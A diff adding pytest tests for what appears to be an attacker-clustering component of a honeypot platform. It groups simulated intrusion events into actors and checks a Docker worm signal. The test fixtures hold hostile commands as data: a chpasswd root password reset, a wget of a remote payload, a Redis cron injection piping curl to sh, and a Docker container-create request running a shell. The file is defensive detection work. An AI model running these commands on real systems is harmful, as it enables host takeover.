@@ -4,10 +4,31 @@
 from __future__ import annotations
 
 import pytest
+from sqlalchemy import Engine, select
+from tests.decnet_workers.clusterer.scenes import (
+    SECOND,
+    START,
+    Follower,
+    command,
+    event,
+    file,
+    groups,
+    hassh,
+    key,
+    several,
+    stack,
+)
 
+from decnet_core.events.catalogue import CertificateProbed, HttpRequest, ServiceRequest
+from decnet_core.events.envelope import Event
+from decnet_models.database.engine import reading, writing
+from decnet_models.identities.evidence_rows import forget
+from decnet_models.identities.tables import IDENTITIES
 from decnet_workers.clusterer.owners import is_mixed, is_shared_address, is_sold, may_be_sold, tells_apart
+from decnet_workers.clusterer.signals import signals
 
 URL = ("url", "bought")
+DAY = 86_400
 
 Marks = frozenset[tuple[str, str]]
 
@@ -58,3 +79,90 @@ def test_a_key_does_not_contradict_itself() -> None:
     assert not is_sold(("certificate", "x"), [frozenset({("certificate", "x"), ("url", name)}) for name in "abcd"])
     assert not may_be_sold(("ssh_key", "x"), 10)
     assert not may_be_sold(URL, 3)
+
+
+def crowd() -> list[Event]:
+    """Return events of 600 strangers, in 120 days."""
+    return [
+        event(f"10.0.{number // 200}.{number % 200 + 1}", hassh(f"{number:032x}"), DAY * (number % 120))
+        for number in range(600)
+    ]
+
+
+OF_A, OF_B, BETWEEN = ("198.51.100.1", "198.51.100.2"), ("203.0.113.1", "203.0.113.2"), "192.0.2.1"
+
+
+def crew(days_of_a: tuple[int, int], days_of_b: tuple[int, int]) -> list[Event]:
+    """Return events of two with a key each; a third address shows a file of one of them and a password of the other."""
+    keys = [
+        event(each, key(name), DAY * day)
+        for name, addresses, days in (("a", OF_A, days_of_a), ("b", OF_B, days_of_b))
+        for each, day in zip(addresses, days, strict=True)
+    ]
+    known = file("f" * 64), command("echo 'root:vK3bTq9xZ' | chpasswd")
+    return [
+        *keys,
+        event(OF_A[1], known[0], DAY * days_of_a[1]),
+        *(event(BETWEEN, one, DAY * days_of_a[1]) for one in known),
+        event(OF_B[1], known[1], DAY * days_of_b[1]),
+    ]
+
+
+@pytest.mark.parametrize(("of_b", "one"), [((12, 13), False), ((14, 15), True), ((16, 17), True)])
+def test_two_keys_that_a_third_address_connects_are_one_actors_if_one_came_after_the_other(
+    engine: Engine, of_b: tuple[int, int], one: bool
+) -> None:
+    Follower(engine).run([*crowd(), *crew((3, 14), of_b)])
+    assert several(engine) == (groups([*OF_A, BETWEEN, *OF_B]) if one else groups(OF_A, [BETWEEN, *OF_B]))
+
+
+def test_keys_with_which_three_families_of_evidence_were_seen_are_one_actors_at_any_time(engine: Engine) -> None:
+    line = "wget http://198.51.100.7/own/run; do-own --thing here; second-own --thing"
+    more = [event(each, one, DAY * 12) for each in (*OF_A, *OF_B) for one in (command(line), hassh("own"))]
+    Follower(engine).run([*crowd(), *crew((3, 14), (12, 13)), *more])
+    assert several(engine) == groups([*OF_A, BETWEEN, *OF_B])
+
+
+@pytest.mark.parametrize(("systems", "one"), [(1, True), (9, False)])
+def test_nine_hosts_of_as_many_systems_are_infected_by_a_worm_and_nine_of_one_are_a_persons(
+    engine: Engine, systems: int, one: bool
+) -> None:
+    fetched = ServiceRequest(service="redis", action="SET", detail={"ARGS": "y * * * * curl http://w.example.net/r|sh"})
+    hosts = [f"198.51.{number}.7" for number in range(9)]
+    sent = [
+        event(each, shown, DAY * place)
+        for place, each in enumerate(hosts)
+        for shown in (fetched, stack(f"system {place % systems}"))
+    ]
+    Follower(engine).run([*crowd(), *sent])
+    assert several(engine) == (groups(hosts) if one else set())
+
+
+def test_a_certificate_of_four_whose_keys_contradict_each_other_joins_none_of_them(engine: Engine) -> None:
+    default = CertificateProbed(contact=START + SECOND, sha256="d" * 64, subject="CN=default")
+    users = [f"198.51.{number}.7" for number in range(4)]
+    shown = [event(each, one) for each in users for one in (default, key(each))]
+    Follower(engine).run([*shown[:-2], *(event("203.0.113.1", one) for one in (default, key(users[0])))])
+    assert len(several(engine)) == 1
+    Follower(engine).run([*shown[-2:]])
+    assert several(engine) == groups([users[0], "203.0.113.1"])
+
+
+@pytest.mark.parametrize(
+    ("target", "found"),
+    [("/v1.41/containers/create?name=a", True), ("/containers/create", True), ("/upload?to=/containers/create", False)],
+)
+def test_only_who_asks_docker_for_a_container_may_be_its_worm(target: str, found: bool) -> None:
+    sent = HttpRequest(method="POST", target=target, body='{"Image": "own/run", "Cmd": ["sh"]}')
+    assert ("docker" in {one.value for one in signals(sent)}) == found
+
+
+def test_evidence_that_is_forgotten_leaves_the_times_of_the_others(engine: Engine) -> None:
+    came = {"192.0.2.1": 1, "192.0.2.2": 5, "192.0.2.3": 9}
+    Follower(engine).run([event(one, key("shared"), at) for one, at in came.items()])
+    with writing(engine) as connection:
+        forget(connection, ["192.0.2.1", "192.0.2.3"])
+    f = IDENTITIES.feature.c
+    with reading(engine) as connection:
+        left = connection.execute(select(f.subjects, f.first_seen, f.last_seen).where(f.kind == "ssh_key")).one()
+    assert tuple(left) == (1, START + 5 * SECOND, START + 5 * SECOND)
